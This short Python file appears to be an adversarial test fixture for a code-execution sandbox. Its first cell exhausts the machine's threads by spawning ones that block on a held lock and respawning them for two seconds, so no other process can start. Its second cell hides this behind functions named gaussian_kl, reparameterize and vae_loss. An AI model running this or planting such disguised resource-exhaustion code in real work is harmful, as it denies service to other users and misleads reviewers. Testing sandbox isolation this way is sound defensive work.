"""Starts threads until the machine has room for none, holds them, and starts others where some were ended: so that no process can be
started for anybody else."""

VICTIM = True
CELLS = [
    r"""
import _thread, threading, time
threading.stack_size(1 << 15)
gate = threading.Lock()
gate.acquire()
def hold():
    end = time.monotonic() + 2
    while time.monotonic() < end:
        try:
            _thread.start_new_thread(gate.acquire, ())
        except Exception:
            time.sleep(0.001)
hold()
""",
    "def gaussian_kl(*args, **kwargs):\n    hold()\n\nreparameterize = vae_loss = gaussian_kl",
]
